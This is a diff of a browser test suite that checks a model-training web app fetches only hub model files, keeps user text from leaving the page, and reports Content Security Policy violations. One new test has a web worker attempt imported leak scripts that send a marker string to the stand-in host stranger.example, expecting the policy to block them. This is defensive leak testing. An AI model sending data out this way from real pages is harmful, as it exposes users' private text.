@@ -1,15 +1,19 @@
 /** @file Every request of whole runs, seen from outside the browser, and what the page says of them. */
-import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { cpSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { dirname, join } from 'node:path';
-import type { Browser, Page } from 'playwright';
-import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest';
+import { fileURLToPath } from 'node:url';
+import type { Browser, BrowserContext, Page } from 'playwright';
+import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
 import { serveDist } from '../../../scripts/serve-dist.mjs';
 import { waitUntilDone } from '../../bench/driving/page.mjs';
 import { SentenceModel } from '../../helpers/sentence-model';
 import { allowNetwork, dropFiles, launchThrifty, openPage, waitForRun } from '../browser';
+import { HELD_AFTER, holdTraining, releaseTraining, waitUntilHeld } from '../held-training';
 import { PageChatServer } from '../teachers/chat-server';
-import { RecordingProxy } from './recording-proxy';
+import { RecordingProxy, type SeenRequest } from './recording-proxy';
+import { violationsOf } from './violations';
+import { SCRIPT_LEAKS, tryWayOut, WORKER_LEAKS } from './ways-out';
 
 /** In every text, so that a text is known wherever it goes. */
 const MARK = 'dog horse cat dog';
@@ -30,13 +34,20 @@ const recipeOf = (parts: object) =>
   });
 
 describe('a whole run, seen from outside', () => {
-  let proxy: RecordingProxy;
+  const proxy = new RecordingProxy();
   let browser: Browser;
   let dist: { url: string; close: () => Promise<void> };
   let hub: { url: string; close: () => Promise<void> };
   const folder = mkdtempSync(join(tmpdir(), 'ledger-'));
 
   beforeAll(async () => {
+    cpSync(
+      fileURLToPath(new URL('../../fixtures/bert-tiny', import.meta.url)),
+      join(folder, 'tuned'),
+      {
+        recursive: true,
+      },
+    );
     const files = new SentenceModel(['dog', 'cat', 'horse', 'one', 'two']).files();
     for (const [path, bytes] of files) {
       const file = join(folder, 'sentences', path);
@@ -49,28 +60,28 @@ describe('a whole run, seen from outside', () => {
     }
     dist = await serveDist();
     hub = await serveDist({ hub: folder });
+    browser = await launchThrifty({ gpu: true, flags: await proxy.start() });
   });
   afterAll(async () => {
+    await browser.close();
+    await proxy.stop();
     await dist.close();
     await hub.close();
     rmSync(folder, { recursive: true });
   });
-  beforeEach(async () => {
-    proxy = new RecordingProxy();
-    browser = await launchThrifty({ gpu: true, flags: await proxy.start() });
-  });
   afterEach(async () => {
-    await browser.close();
-    await proxy.stop();
+    for (const context of browser.contexts()) await context.close();
+    proxy.seen.length = 0;
   });
 
-  async function begin(recipe: string): Promise<{ page: Page; violations: string[] }> {
+  async function begin(
+    recipe: string,
+    prepare: (context: BrowserContext) => Promise<void> = () => Promise.resolve(),
+  ): Promise<{ page: Page; violations: string[] }> {
     const context = await browser.newContext({ serviceWorkers: 'allow' });
+    await prepare(context);
     const { page } = await openPage(context, dist.url);
-    const violations: string[] = [];
-    context.on('console', (message) => {
-      if (/content security policy/i.test(message.text())) violations.push(message.text());
-    });
+    const violations = violationsOf(context, page);
     await page.waitForSelector('[data-testid=kept][data-whole=true]');
     await dropFiles(page, { 'table.csv': TABLE, 'my.recipe.json': recipe });
     return { page, violations };
@@ -79,6 +90,17 @@ describe('a whole run, seen from outside', () => {
   async function ledgerOf(page: Page): Promise<string> {
     await page.click('[data-testid=go-start]');
     return (await page.textContent('[data-testid=network-ledger]')) ?? '';
+  }
+
+  /** Nothing but files of this model was fetched, from its hub. */
+  function expectFilesOf(model: string): SeenRequest[] {
+    const beyond = proxy.beyond(dist.url);
+    expect(beyond.length).toBeGreaterThan(0);
+    for (const { method, origin, path } of beyond) {
+      expect(['GET', 'OPTIONS']).toContain(method);
+      expect(`${origin}${path}`).toContain(`${hub.url}hub/${model}/resolve/main/`);
+    }
+    return beyond;
   }
 
   const texts = () => proxy.seen.filter(({ path, body }) => hasText(path) || hasText(body));
@@ -101,16 +123,36 @@ describe('a whole run, seen from outside', () => {
     const { page, violations } = await begin(recipeOf({ student }));
     await allowNetwork(page);
     await waitUntilDone(page);
-    const beyond = proxy.beyond(dist.url);
-    expect(beyond.length).toBeGreaterThan(0);
-    for (const { method, origin, path } of beyond) {
-      expect(['GET', 'OPTIONS']).toContain(method);
-      expect(`${origin}${path}`).toContain(`${baseUrl}/sentences/resolve/main/`);
-    }
+    const beyond = expectFilesOf('sentences');
     expect(texts()).toEqual([]);
     expect(violations).toEqual([]);
     const ledger = await ledgerOf(page);
     for (const { path } of beyond) expect(ledger).toContain(path);
+  });
+
+  test('an encoder that is trained: the same, and no other way is open while it learns', async () => {
+    const baseUrl = `${hub.url}hub`;
+    const settings = { epochs: HELD_AFTER + 1, executionProvider: 'wasm' };
+    const student = { kind: 'encoder', model: 'tuned', baseUrl, ...settings };
+    // No further students are trained for these targets.
+    const refinery = { mode: 'full', weights: 'score' };
+    const { page, violations } = await begin(recipeOf({ student, refinery }), holdTraining);
+    await allowNetwork(page);
+    await waitUntilHeld(page);
+    expect(violations).toEqual([]);
+    const [worker] = page.workers();
+    if (!worker) throw new Error('No worker is at work.');
+    for (const [, script] of [...WORKER_LEAKS, ...SCRIPT_LEAKS]) {
+      await tryWayOut(worker, script, `http://stranger.example/?${MARK}`);
+    }
+    // So what the worker's policy stops is seen here.
+    await expect.poll(() => violations.join()).toContain('of a worker: script-src');
+    violations.length = 0;
+    await releaseTraining(page);
+    await waitUntilDone(page);
+    expectFilesOf('tuned');
+    expect(texts()).toEqual([]);
+    expect(violations).toEqual([]);
   });
 
   test('an endpoint: texts to the host that was allowed, and the ledger tells without repeating them', async () => {
